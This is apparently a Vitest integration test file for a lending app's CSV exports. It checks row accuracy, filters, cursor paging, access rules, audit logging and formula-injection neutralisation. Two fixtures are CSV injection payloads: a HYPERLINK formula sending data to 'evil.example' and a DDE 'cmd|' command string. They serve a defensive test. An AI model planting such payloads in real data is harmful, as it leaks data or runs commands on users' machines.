// CSV exports (the lender's queue, the admins' applications, users and audit log) through the built
// app: every matching row and only those (parsed back and compared with the database), the filters
// of each page, who may download what, formula injection neutralised, and each export audited.
import { beforeAll, describe, expect, it } from "vitest";
import {
  createAdmin,
  createLenderOrg,
  createLenderUser,
  createMerchant,
  createProduct,
  OPEN_TERM_LOAN,
  unique,
} from "#tests/factories";
import { exportAuditLog } from "~/domain/exports/exports.server";
import { listReferrals, queueExportSlices } from "~/domain/lenders/queue.server";
import { minorToDecimalString } from "~/domain/money";
import { prisma } from "~/utils/db.server";
import { type CsvExportFile, readCsvExport } from "../support/csv-export";
import { cookieFor, request } from "./app";

const PASSWORD = "correct horse battery staple";
const EVIL_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")';

async function download(path: string, cookie: string): Promise<CsvExportFile> {
  const response = await request(path, { cookie });
  expect(response.status, path).toBe(200);
  expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
  expect(response.headers.get("Content-Disposition")).toMatch(
    /^attachment; filename="tradelift-[a-z-]+-\d{4}-\d{2}-\d{2}\.csv"/,
  );
  expect(response.headers.get("Cache-Control")).toBe("private, no-store");
  return readCsvExport(Buffer.from(await response.arrayBuffer()));
}

let orgA: { id: string };
let orgB: { id: string };
let loanA: string;
let lineA: string;
let uwA: string;
let adminA: string;
let uwB: string;
let merchantUser: string;
let admin: string;
let evilReferral: string;
let referralB: string;

/** A submitted application of a new merchant, referred to one lender product. */
async function referral(
  org: { id: string },
  productId: string,
  input: {
    name: string;
    amountCents: number;
    grade: string | null;
    score: number | null;
    daysAgo: number;
    status?: string;
    createdAt?: Date;
  },
) {
  const merchant = await createMerchant(prisma, {
    email: `${unique("xm")}@example.com`,
    userName: "Export Owner",
    password: PASSWORD,
    legalName: input.name,
  });
  const application = await prisma.application.create({
    data: {
      merchantId: merchant.merchantId,
      requestedAmountCents: input.amountCents,
      purpose: "Export test",
      productTypeWanted: "ANY",
      tenorDays: 90,
      status: "SUBMITTED",
      submittedAt: new Date(),
    },
    select: { id: true },
  });
  const created = await prisma.referral.create({
    data: {
      applicationId: application.id,
      lenderProductId: productId,
      lenderOrgId: org.id,
      fitRank: 1,
      status: input.status ?? "NEW",
      score: input.score,
      grade: input.grade,
      createdAt: input.createdAt ?? new Date(Date.now() - input.daysAgo * 86_400_000),
    },
    select: { id: true },
  });
  return { referralId: created.id, merchant, applicationId: application.id };
}

beforeAll(async () => {
  orgA = await createLenderOrg(prisma, { name: unique("Export Lender A ") });
  orgB = await createLenderOrg(prisma, { name: unique("Export Lender B ") });
  loanA = (await createProduct(prisma, { lenderOrgId: orgA.id, ...OPEN_TERM_LOAN, name: "Export Loan" })).id;
  lineA = (
    await createProduct(prisma, {
      lenderOrgId: orgA.id,
      ...OPEN_TERM_LOAN,
      name: "Export Line",
      type: "EXPORT_WORKING_CAPITAL",
    })
  ).id;
  const loanB = (await createProduct(prisma, { lenderOrgId: orgB.id, ...OPEN_TERM_LOAN, name: "B Loan" })).id;
  const member = (lenderOrgId: string, lenderRole: "ADMIN" | "UNDERWRITER") =>
    createLenderUser(prisma, {
      lenderOrgId,
      email: `${unique("xl")}@l.example`,
      name: `Export ${lenderRole}`,
      password: PASSWORD,
      lenderRole,
    }).then((u) => u.id);
  uwA = await member(orgA.id, "UNDERWRITER");
  adminA = await member(orgA.id, "ADMIN");
  uwB = await member(orgB.id, "UNDERWRITER");
  admin = (
    await createAdmin(prisma, {
      email: `${unique("xa")}@tradelift.example`,
      name: "Platform Exporter",
      password: PASSWORD,
    })
  ).id;
  // 30 referrals for lender A: more than one page of the queue (25).
  for (let i = 0; i < 28; i += 1) {
    await referral(orgA, i % 2 === 0 ? loanA : lineA, {
      name: `Export Merchant ${String(i).padStart(2, "0")}, Ltd.`,
      amountCents: 1_000_000 + i * 500_000 + 37,
      grade: i % 3 === 0 ? "A" : "C",
      score: 500 + i,
      daysAgo: i,
    });
  }
  const evil = await referral(orgA, loanA, {
    name: EVIL_NAME,
    amountCents: 25_000_050,
    grade: "B",
    score: 777,
    daysAgo: 2,
  });
  evilReferral = evil.referralId;
  merchantUser = evil.merchant.userId;
  await referral(orgA, lineA, {
    name: 'Quote "Co"\nSecond line',
    amountCents: 99_999,
    grade: "E",
    score: 300,
    daysAgo: 40,
    status: "DECLINED",
  });
  referralB = (
    await referral(orgB, loanB, {
      name: "Only B Exports",
      amountCents: 5_000_000,
      grade: "A",
      score: 800,
      daysAgo: 1,
    })
  ).referralId;
});

describe("the lender's queue as CSV", () => {
  it("holds every referral of the lender (not one page), as in the database, and nothing of another lender", async () => {
    const csv = await download("/lender/referrals.csv", await cookieFor(uwA));
    expect(csv.header).toEqual([
      "referral_id",
      "received_at",
      "merchant",
      "requested_amount",
      "currency",
      "tenor_days",
      "product",
      "score",
      "grade",
      "status",
      "assignee",
    ]);
    const inDb = await prisma.referral.findMany({
      where: { lenderOrgId: orgA.id },
      orderBy: [{ createdAt: "desc" }, { id: "desc" }],
      select: {
        id: true,
        createdAt: true,
        status: true,
        score: true,
        grade: true,
        product: { select: { name: true } },
        application: {
          select: { requestedAmountCents: true, tenorDays: true, merchant: { select: { legalName: true } } },
        },
      },
    });
    expect(inDb).toHaveLength(30);
    expect(csv.rows.map((r) => r.referral_id)).toEqual(inDb.map((r) => r.id));
    for (const [index, row] of csv.rows.entries()) {
      const db = inDb[index];
      if (!db) throw new Error("row without a referral");
      expect(row).toEqual({
        referral_id: db.id,
        received_at: db.createdAt.toISOString(),
        merchant:
          db.application.merchant.legalName === EVIL_NAME
            ? `'${EVIL_NAME}`
            : db.application.merchant.legalName,
        requested_amount: minorToDecimalString(db.application.requestedAmountCents, "USD"),
        currency: "USD",
        tenor_days: String(db.application.tenorDays),
        product: db.product.name,
        score: String(db.score),
        grade: db.grade,
        status: db.status,
        assignee: "",
      });
    }
    expect(csv.text).not.toContain(referralB);
    expect(csv.text).not.toContain("Only B Exports");
    // Amounts are exact decimals, written as numbers (no apostrophe, no quotes).
    expect(csv.text).toContain(",250000.50,USD,");
    // The line break and quotes in a name are quoted, and read back whole.
    expect(csv.rows.some((r) => r.merchant === 'Quote "Co"\nSecond line')).toBe(true);

    // Lender B sees its own referral only.
    const other = await download("/lender/referrals.csv", await cookieFor(uwB));
    expect(other.rows.map((r) => r.referral_id)).toEqual([referralB]);
  });

  it("neutralises a merchant's name written as a formula", async () => {
    const csv = await download(`/lender/referrals.csv?grade=B`, await cookieFor(adminA));
    expect(csv.rows).toHaveLength(1);
    expect(csv.rows[0]?.referral_id).toBe(evilReferral);
    expect(csv.rows[0]?.merchant).toBe(`'${EVIL_NAME}`);
    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it("applies the queue's filters and order, and is audited with them", async () => {
    const cookie = await cookieFor(uwA);
    const ids = async (query: string) =>
      (await download(`/lender/referrals.csv?${query}`, cookie)).rows.map((r) => r.referral_id);
    const where = async (extra: object, orderBy: object[] = [{ createdAt: "desc" }, { id: "desc" }]) =>
      (
        await prisma.referral.findMany({
          where: { lenderOrgId: orgA.id, ...extra },
          orderBy,
          select: { id: true },
        })
      ).map((r) => r.id);
    expect(await ids(`productId=${loanA}`)).toEqual(await where({ lenderProductId: loanA }));
    expect(await ids("status=DECLINED")).toEqual(await where({ status: "DECLINED" }));
    expect(await ids("grade=A")).toEqual(await where({ grade: "A" }));
    expect(await ids(`minAmountCents=${encodeURIComponent("$130,000")}`)).toEqual(
      await where({ application: { requestedAmountCents: { gte: 13_000_000 } } }),
    );
    expect(await ids("maxAgeDays=7")).toEqual(
      await where({ createdAt: { gte: new Date(Date.now() - 7 * 86_400_000) } }),
    );
    expect(await ids("sort=score")).toEqual(await where({}, [{ score: "desc" }, { id: "desc" }]));
    // An amount the page cannot read: no file of every referral, the page's message instead, and
    // the page offers no download until the field is corrected.
    const unreadable = await request("/lender/referrals.csv?minAmountCents=abc", { cookie });
    expect(unreadable.status).toBe(400);
    expect(await unreadable.text()).toContain("Enter an amount in dollars");
    const page = await (await request("/lender?minAmountCents=abc", { cookie })).text();
    expect(page).toContain("Enter an amount in dollars");
    expect(page).not.toContain("/lender/referrals.csv");
    expect(await ids("sort=oldest&page=2")).toEqual(await where({}, [{ createdAt: "asc" }, { id: "asc" }]));
    // A page number is not a filter: the export holds every page.
    expect(await ids("page=2")).toHaveLength(30);

    const event = await prisma.auditEvent.findFirstOrThrow({
      where: { action: "lender.queue_exported", actorId: uwA, summaryJson: { contains: "oldest" } },
      orderBy: [{ createdAt: "desc" }, { id: "desc" }],
      select: { entityType: true, summaryJson: true, actorRole: true },
    });
    expect(event.entityType).toBe("Export");
    expect(JSON.parse(event.summaryJson)).toEqual({
      list: "lender_queue",
      format: "csv",
      filters: { sort: "oldest" },
    });
    const amountEvent = await prisma.auditEvent.findMany({
      where: { action: "lender.queue_exported", summaryJson: { contains: "minAmountCents" } },
      select: { summaryJson: true },
    });
    expect(JSON.parse(amountEvent[0]?.summaryJson ?? "{}").filters).toEqual({
      minAmountCents: 13_000_000,
      sort: "newest",
    });
  });

  it("reads slices by cursor in each of the queue's orders, ties on time, amount and score included", async () => {
    const org = await createLenderOrg(prisma, { name: unique("Export Lender Ties ") });
    const product = (await createProduct(prisma, { lenderOrgId: org.id, ...OPEN_TERM_LOAN, name: "Ties" }))
      .id;
    const at = new Date(Date.now() - 3_600_000);
    for (let i = 0; i < 13; i += 1)
      await referral(org, product, {
        name: `Tie Exports ${i}`,
        amountCents: i % 3 === 0 ? 5_000_000 : 7_000_000,
        score: i % 4 === 0 ? null : i % 2 === 0 ? 640 : 700,
        grade: i % 4 === 0 ? null : "B",
        daysAgo: 0,
        createdAt: i < 9 ? at : new Date(at.getTime() - i * 1000),
      });
    const uw = await createLenderUser(prisma, {
      lenderOrgId: org.id,
      email: `${unique("xt")}@l.example`,
      name: "Ties Underwriter",
      password: PASSWORD,
      lenderRole: "UNDERWRITER",
    });
    for (const sort of ["newest", "oldest", "amount", "score"] as const) {
      const page = await listReferrals(prisma, org.id, { sort, page: 1 }, uw.id);
      expect(page.rows).toHaveLength(13);
      for (const size of [1, 4, 5, 13]) {
        const sliced: string[] = [];
        for await (const slice of queueExportSlices(prisma, org.id, { sort, page: 1 }, uw.id, {
          slice: size,
        }))
          sliced.push(...slice.map((r) => r.id));
        expect(sliced, `${sort} by ${size}`).toEqual(page.rows.map((r) => r.id));
      }
    }
  });

  it("reads the rows a slice at a time with none lost or repeated at the edges", async () => {
    for (const sort of ["newest", "oldest", "amount", "score"] as const) {
      const whole: string[] = [];
      for await (const slice of queueExportSlices(prisma, orgA.id, { sort, page: 1 }, uwA, { slice: 7 }))
        whole.push(...slice.map((r) => r.id));
      expect(whole).toHaveLength(30);
      expect(new Set(whole).size).toBe(30);
    }
  });
});

describe("the admins' exports", () => {
  it("list every application with the list's filter, as in the database", async () => {
    const cookie = await cookieFor(admin);
    const all = await download("/admin/applications.csv", cookie);
    const inDb = await prisma.application.findMany({
      orderBy: [{ createdAt: "desc" }, { id: "desc" }],
      select: {
        id: true,
        status: true,
        requestedAmountCents: true,
        submittedAt: true,
        merchant: { select: { legalName: true } },
        _count: { select: { referrals: true } },
      },
    });
    expect(all.rows.map((r) => r.application_id)).toEqual(inDb.map((a) => a.id));
    const first = inDb[0];
    expect(all.rows[0]).toMatchObject({
      status: first?.status,
      requested_amount: minorToDecimalString(first?.requestedAmountCents ?? 0),
      referrals: String(first?._count.referrals),
      submitted_at: first?.submittedAt?.toISOString() ?? "",
    });
    expect(all.rows.find((r) => r.merchant?.includes("HYPERLINK"))?.merchant).toBe(`'${EVIL_NAME}`);
    const draft = await prisma.application.create({
      data: {
        merchantId: (await prisma.merchantMember.findFirstOrThrow({ select: { merchantId: true } }))
          .merchantId,
        requestedAmountCents: 1_000_000,
        purpose: "Draft",
        status: "DRAFT",
        productTypeWanted: "ANY",
        tenorDays: 60,
      },
      select: { id: true },
    });
    const drafts = await download("/admin/applications.csv?status=DRAFT&page=3", cookie);
    expect(drafts.rows.map((r) => r.application_id)).toEqual([draft.id]);
  });

  it("list users by role and name, with their organisation", async () => {
    const cookie = await cookieFor(admin);
    const lenders = await download("/admin/users.csv?role=LENDER", cookie);
    const inDb = await prisma.user.findMany({
      where: { role: "LENDER" },
      orderBy: [{ createdAt: "desc" }, { id: "desc" }],
      select: { id: true, email: true },
    });
    expect(lenders.rows.map((r) => r.user_id)).toEqual(inDb.map((u) => u.id));
    expect(lenders.rows.find((r) => r.user_id === uwA)).toMatchObject({
      role: "LENDER",
      lender_role: "UNDERWRITER",
      status: "ACTIVE",
      deactivated_at: "",
    });
    expect(lenders.rows.find((r) => r.user_id === uwA)?.organisation).toMatch(/^Export Lender A /);
    const found = await download("/admin/users.csv?q=Platform%20Exporter", cookie);
    expect(found.rows.map((r) => r.user_id)).toEqual([admin]);
    expect(found.header).not.toContain("password_hash");
    expect(found.text).not.toMatch(/\$2[aby]\$/);
  });

  it("list the audit log with its filters, across many slices, and record each export", async () => {
    const cookie = await cookieFor(admin);
    // 2,500 events of one kind, most at the very same instant: the cursor must neither repeat
    // nor skip rows that tie on time.
    const at = new Date("2020-03-04T05:06:07.000Z");
    await prisma.auditEvent.createMany({
      data: Array.from({ length: 2500 }, (_, i) => ({
        actorId: null,
        actorName: i === 0 ? "@SUM(1+1)*cmd|' /C calc'!A0" : "Bulk Importer",
        actorRole: "SYSTEM",
        action: "test.bulk",
        entityType: "SalesImport",
        entityId: `bulk-${i}`,
        summaryJson: JSON.stringify({ n: i }),
        createdAt: i < 2000 ? at : new Date(at.getTime() + i * 1000),
      })),
    });
    const bulk = await download(
      "/admin/audit.csv?entityType=SalesImport&from=2020-03-01&to=2020-03-31",
      cookie,
    );
    expect(bulk.rows).toHaveLength(2500);
    expect(new Set(bulk.rows.map((r) => r.entity_id)).size).toBe(2500);
    expect(bulk.rows[0]).toMatchObject({
      entity_id: "bulk-2499",
      created_at: new Date(at.getTime() + 2_499_000).toISOString(),
    });
    expect(bulk.rows.find((r) => r.entity_id === "bulk-0")?.actor_name).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(bulk.rows.find((r) => r.entity_id === "bulk-7")?.details).toBe('{"n":7}');
    // "to" takes in the whole day; a period before the events finds none of them.
    expect(
      (await download("/admin/audit.csv?entityType=SalesImport&to=2020-03-03", cookie)).rows,
    ).toHaveLength(0);
    // By actor: the export's own events are there, with who exported what and the filters.
    const exports = await download("/admin/audit.csv?entityType=Export&actor=Platform%20Exporter", cookie);
    const actions = exports.rows.map((r) => r.action);
    expect(actions).toContain("admin.audit_log_exported");
    expect(actions).toContain("admin.applications_exported");
    expect(actions).toContain("admin.users_exported");
    const auditExport = exports.rows.find(
      (r) => r.action === "admin.audit_log_exported" && r.details?.includes("2020-03-01"),
    );
    expect(JSON.parse(auditExport?.details ?? "{}")).toEqual({
      list: "audit_log",
      format: "csv",
      filters: {
        entityType: "SalesImport",
        from: "2020-03-01T00:00:00.000Z",
        to: "2020-04-01T00:00:00.000Z",
      },
    });
    expect(auditExport?.actor_id).toBe(admin);
    expect(auditExport?.actor_role).toBe("ADMIN");
  });

  it("streams the file a slice at a time", async () => {
    const file = await exportAuditLog(prisma, {
      filter: { entityType: "SalesImport" },
      actor: { id: admin, role: "ADMIN" },
      ip: "127.0.0.1",
    });
    const reader = file.body.getReader();
    const chunks: number[] = [];
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks.push(value.byteLength);
    }
    // The header, then one chunk per 1,000 rows.
    expect(chunks).toHaveLength(4);
  });
});

describe("who may download an export", () => {
  it("lenders their own queue (admins and underwriters alike), admins the platform's lists, nobody else", async () => {
    const cookies = {
      merchant: await cookieFor(merchantUser),
      underwriter: await cookieFor(uwA),
      lenderAdmin: await cookieFor(adminA),
      admin: await cookieFor(admin),
    };
    const expected: Record<string, Record<keyof typeof cookies, number>> = {
      "/lender/referrals.csv?status=NEW": { merchant: 404, underwriter: 200, lenderAdmin: 200, admin: 404 },
      "/admin/applications.csv?status=SUBMITTED": {
        merchant: 404,
        underwriter: 404,
        lenderAdmin: 404,
        admin: 200,
      },
      "/admin/users.csv?role=ADMIN": { merchant: 404, underwriter: 404, lenderAdmin: 404, admin: 200 },
      "/admin/audit.csv?entityType=Export": { merchant: 404, underwriter: 404, lenderAdmin: 404, admin: 200 },
    };
    for (const [path, byActor] of Object.entries(expected)) {
      for (const [actor, status] of Object.entries(byActor)) {
        const response = await request(path, { cookie: cookies[actor as keyof typeof cookies] });
        expect(response.status, `${actor} ${path}`).toBe(status);
        if (status === 404) expect(await response.text()).not.toContain("referral_id");
      }
      const anonymous = await request(path);
      expect(anonymous.status, `anonymous ${path}`).toBe(302);
      expect(anonymous.headers.get("Location")).toBe(`/login?${new URLSearchParams({ redirectTo: path })}`);
    }
    // A refused download writes no export event, and is itself recorded as refused.
    expect(await prisma.auditEvent.count({ where: { entityType: "Export", actorId: merchantUser } })).toBe(0);
    const refusals = await prisma.auditEvent.findMany({
      where: { action: "access.refused", actorId: merchantUser },
      select: { summaryJson: true },
    });
    expect(refusals.map((r) => JSON.parse(r.summaryJson).path).sort()).toEqual(
      ["/admin/applications.csv", "/admin/audit.csv", "/admin/users.csv", "/lender/referrals.csv"].sort(),
    );
  });

  it("pages link to their export with the filters shown, without the page number", async () => {
    const lenderPage = await (
      await request(`/lender?grade=A&sort=score&page=2`, { cookie: await cookieFor(uwA) })
    ).text();
    expect(lenderPage).toContain('href="/lender/referrals.csv?grade=A&amp;sort=score" download=""');
    const adminCookie = await cookieFor(admin);
    const pages: [string, string][] = [
      ["/admin/applications?status=SUBMITTED&page=1", "/admin/applications.csv?status=SUBMITTED"],
      ["/admin/users?q=Export&role=LENDER", "/admin/users.csv?q=Export&amp;role=LENDER"],
      [
        "/admin/audit?entityType=Export&from=2026-01-01",
        "/admin/audit.csv?entityType=Export&amp;from=2026-01-01",
      ],
    ];
    for (const [page, link] of pages) {
      const html = await (await request(page, { cookie: adminCookie })).text();
      expect(html, page).toContain(`href="${link}" download=""`);
      expect(html).toContain("Download CSV");
    }
  });
});
